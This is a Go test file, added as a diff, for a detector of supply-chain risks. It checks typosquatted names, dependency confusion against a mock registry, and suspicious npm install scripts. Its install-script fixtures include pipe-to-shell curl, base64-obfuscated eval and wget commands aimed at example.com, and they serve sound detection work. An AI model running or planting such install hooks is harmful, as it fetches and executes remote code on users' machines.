@@ -0,0 +1,322 @@
+package supplychain
+
+import (
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+
+	ftypes "github.com/zhanglimao/trivy/pkg/fanal/types"
+	"github.com/zhanglimao/trivy/pkg/types"
+)
+
+func TestDetect(t *testing.T) {
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.EscapedPath() {
+		case "/@acme%2futils":
+			_, _ = w.Write([]byte(`{"name": "@acme/utils", "versions": {"1.2.0": {}}}`))
+		case "/@acme%2flogger":
+			_, _ = w.Write([]byte(`{"name": "@acme/logger", "versions": {"99.0.0": {}}}`))
+		case "/@acme%2fhttp":
+			_, _ = w.Write([]byte(`{"name": "@acme/http", "versions": {"0.0.1": {}}}`))
+		case "/pypi/acme-core/json":
+			_, _ = w.Write([]byte(`{"info": {"name": "acme-core"}, "releases": {"2.0.0": []}}`))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer ts.Close()
+	npmRegistry, pypiRegistry = ts.URL, ts.URL
+
+	tests := []struct {
+		name string
+		apps []ftypes.Application
+		opt  types.SupplyChainOptions
+		want []types.DetectedSuspiciousPackage
+	}{
+		{
+			name: "typosquatting",
+			apps: []ftypes.Application{
+				{
+					Type:     ftypes.Npm,
+					FilePath: "package-lock.json",
+					Libraries: []ftypes.Package{
+						{Name: "crossenv", Version: "1.0.0"},
+						{Name: "lodahs", Version: "4.17.21"},
+						{Name: "rnoment", Version: "2.29.4"},
+						{Name: "expresss", Version: "4.18.2"},
+						{Name: "express", Version: "4.18.2"},
+						{Name: "left-pad", Version: "1.3.0"},
+					},
+				},
+				{
+					Type:     ftypes.Pip,
+					FilePath: "requirements.txt",
+					Libraries: []ftypes.Package{
+						{Name: "python3-dateutil", Version: "2.8.2"},
+						{Name: "Python_DateUtil", Version: "2.8.2"},
+					},
+				},
+				{
+					Type:     ftypes.GoModule,
+					FilePath: "go.mod",
+					Libraries: []ftypes.Package{
+						{Name: "github.com/sirupsen/logrus", Version: "1.9.0"},
+					},
+				},
+			},
+			opt: types.SupplyChainOptions{Typosquatting: true},
+			want: []types.DetectedSuspiciousPackage{
+				{
+					Kind:             types.SuspicionTyposquatting,
+					Type:             ftypes.Npm,
+					PkgName:          "crossenv",
+					InstalledVersion: "1.0.0",
+					FilePath:         "package-lock.json",
+					SimilarTo:        "cross-env",
+					Reason:           "The name differs from 'cross-env' only in separators",
+					Confidence:       types.ConfidenceHigh,
+				},
+				{
+					Kind:             types.SuspicionTyposquatting,
+					Type:             ftypes.Npm,
+					PkgName:          "expresss",
+					InstalledVersion: "4.18.2",
+					FilePath:         "package-lock.json",
+					SimilarTo:        "express",
+					Reason:           "The name is one character away from 'express'",
+					Confidence:       types.ConfidenceMedium,
+				},
+				{
+					Kind:             types.SuspicionTyposquatting,
+					Type:             ftypes.Npm,
+					PkgName:          "lodahs",
+					InstalledVersion: "4.17.21",
+					FilePath:         "package-lock.json",
+					SimilarTo:        "lodash",
+					Reason:           "The name swaps adjacent characters of 'lodash'",
+					Confidence:       types.ConfidenceHigh,
+				},
+				{
+					Kind:             types.SuspicionTyposquatting,
+					Type:             ftypes.Npm,
+					PkgName:          "rnoment",
+					InstalledVersion: "2.29.4",
+					FilePath:         "package-lock.json",
+					SimilarTo:        "moment",
+					Reason:           "The name looks like 'moment' with look-alike characters",
+					Confidence:       types.ConfidenceHigh,
+				},
+				{
+					Kind:             types.SuspicionTyposquatting,
+					Type:             ftypes.Pip,
+					PkgName:          "python3-dateutil",
+					InstalledVersion: "2.8.2",
+					FilePath:         "requirements.txt",
+					SimilarTo:        "python-dateutil",
+					Reason:           "The name is one character away from 'python-dateutil'",
+					Confidence:       types.ConfidenceMedium,
+				},
+			},
+		},
+		{
+			name: "dependency confusion",
+			apps: []ftypes.Application{
+				{
+					Type:     ftypes.Yarn,
+					FilePath: "yarn.lock",
+					Libraries: []ftypes.Package{
+						{Name: "@acme/utils", Version: "1.2.0"},
+						{Name: "@acme/logger", Version: "1.0.0"},
+						{Name: "@acme/http", Version: "1.0.0"},
+						{Name: "@acme/config", Version: "1.0.0"},
+						{Name: "@acme/auth", Version: "99.1.0"},
+						{Name: "lodash", Version: "4.17.21"},
+					},
+				},
+				{
+					Type:     ftypes.Poetry,
+					FilePath: "poetry.lock",
+					Libraries: []ftypes.Package{
+						{Name: "acme_core", Version: "2.0.0"},
+					},
+				},
+			},
+			opt: types.SupplyChainOptions{InternalPackages: []string{"@acme/*", "acme-*"}},
+			want: []types.DetectedSuspiciousPackage{
+				{
+					Kind:             types.SuspicionDependencyConfusion,
+					Type:             ftypes.Poetry,
+					PkgName:          "acme_core",
+					InstalledVersion: "2.0.0",
+					FilePath:         "poetry.lock",
+					Reason:           "Version 2.0.0 is published in the public registry. It may have been installed from the public registry instead of the internal one.",
+					Confidence:       types.ConfidenceHigh,
+				},
+				{
+					Kind:             types.SuspicionDependencyConfusion,
+					Type:             ftypes.Yarn,
+					PkgName:          "@acme/auth",
+					InstalledVersion: "99.1.0",
+					FilePath:         "yarn.lock",
+					Reason:           "Version 99.1.0 is unusually high for an internal package",
+					Confidence:       types.ConfidenceLow,
+				},
+				{
+					Kind:             types.SuspicionDependencyConfusion,
+					Type:             ftypes.Yarn,
+					PkgName:          "@acme/http",
+					InstalledVersion: "1.0.0",
+					FilePath:         "yarn.lock",
+					Reason:           "The name of the internal package is registered in the public registry",
+					Confidence:       types.ConfidenceMedium,
+				},
+				{
+					Kind:             types.SuspicionDependencyConfusion,
+					Type:             ftypes.Yarn,
+					PkgName:          "@acme/logger",
+					InstalledVersion: "1.0.0",
+					FilePath:         "yarn.lock",
+					Reason:           "The public registry has a higher major version 99, which may be installed instead of the internal package",
+					Confidence:       types.ConfidenceHigh,
+				},
+				{
+					Kind:             types.SuspicionDependencyConfusion,
+					Type:             ftypes.Yarn,
+					PkgName:          "@acme/utils",
+					InstalledVersion: "1.2.0",
+					FilePath:         "yarn.lock",
+					Reason:           "Version 1.2.0 is published in the public registry. It may have been installed from the public registry instead of the internal one.",
+					Confidence:       types.ConfidenceHigh,
+				},
+			},
+		},
+		{
+			name: "install scripts",
+			apps: []ftypes.Application{
+				{
+					Type:     ftypes.Npm,
+					FilePath: "package-lock.json",
+					Libraries: []ftypes.Package{
+						{
+							Name:    "body-parser",
+							Version: "1.18.3",
+							InstallScripts: map[string]string{
+								"preinstall":  "node check.js",
+								"postinstall": "curl -s https://example.com/setup.sh | sh",
+							},
+						},
+						{
+							Name:    "colors-util",
+							Version: "1.0.0",
+							InstallScripts: map[string]string{
+								"install": `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"`,
+							},
+						},
+						{
+							Name:    "fetch-binary",
+							Version: "2.0.0",
+							InstallScripts: map[string]string{
+								"postinstall": "node -e \"require('https').get('https://example.com/bin')\"",
+							},
+						},
+						{
+							Name:    "leaky",
+							Version: "0.1.0",
+							InstallScripts: map[string]string{
+								"preinstall": "node -e \"eval(atob('ZmV0Y2g='))\" && wget -q example.com/x",
+							},
+						},
+						{
+							Name:    "node-sass",
+							Version: "9.0.0",
+							InstallScripts: map[string]string{
+								"install":     "node scripts/install.js",
+								"postinstall": "node scripts/build.js",
+							},
+						},
+					},
+				},
+			},
+			opt: types.SupplyChainOptions{InstallScripts: true},
+			want: []types.DetectedSuspiciousPackage{
+				{
+					Kind:             types.SuspicionInstallScript,
+					Type:             ftypes.Npm,
+					PkgName:          "body-parser",
+					InstalledVersion: "1.18.3",
+					FilePath:         "package-lock.json",
+					Script:           "postinstall: curl -s https://example.com/setup.sh | sh",
+					Reason:           "The postinstall script downloads and executes remote code",
+					Confidence:       types.ConfidenceHigh,
+				},
+				{
+					Kind:             types.SuspicionInstallScript,
+					Type:             ftypes.Npm,
+					PkgName:          "colors-util",
+					InstalledVersion: "1.0.0",
+					FilePath:         "package-lock.json",
+					Script:           `install: node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"`,
+					Reason:           "The install script is obfuscated",
+					Confidence:       types.ConfidenceMedium,
+				},
+				{
+					Kind:             types.SuspicionInstallScript,
+					Type:             ftypes.Npm,
+					PkgName:          "fetch-binary",
+					InstalledVersion: "2.0.0",
+					FilePath:         "package-lock.json",
+					Script:           "postinstall: node -e \"require('https').get('https://example.com/bin')\"",
+					Reason:           "The postinstall script accesses the network",
+					Confidence:       types.ConfidenceMedium,
+				},
+				{
+					Kind:             types.SuspicionInstallScript,
+					Type:             ftypes.Npm,
+					PkgName:          "leaky",
+					InstalledVersion: "0.1.0",
+					FilePath:         "package-lock.json",
+					Script:           "preinstall: node -e \"eval(atob('ZmV0Y2g='))\" && wget -q example.com/x",
+					Reason:           "The preinstall script is obfuscated and accesses the network",
+					Confidence:       types.ConfidenceHigh,
+				},
+			},
+		},
+		{
+			name: "dependency confusion offline",
+			apps: []ftypes.Application{
+				{
+					Type:     ftypes.Npm,
+					FilePath: "package-lock.json",
+					Libraries: []ftypes.Package{
+						{Name: "@acme/utils", Version: "1.2.0"},
+						{Name: "@acme/auth", Version: "99.1.0"},
+					},
+				},
+			},
+			opt: types.SupplyChainOptions{
+				InternalPackages: []string{"@acme/*"},
+				Offline:          true,
+			},
+			want: []types.DetectedSuspiciousPackage{
+				{
+					Kind:             types.SuspicionDependencyConfusion,
+					Type:             ftypes.Npm,
+					PkgName:          "@acme/auth",
+					InstalledVersion: "99.1.0",
+					FilePath:         "package-lock.json",
+					Reason:           "Version 99.1.0 is unusually high for an internal package",
+					Confidence:       types.ConfidenceLow,
+				},
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := Detect(context.Background(), tt.apps, tt.opt)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}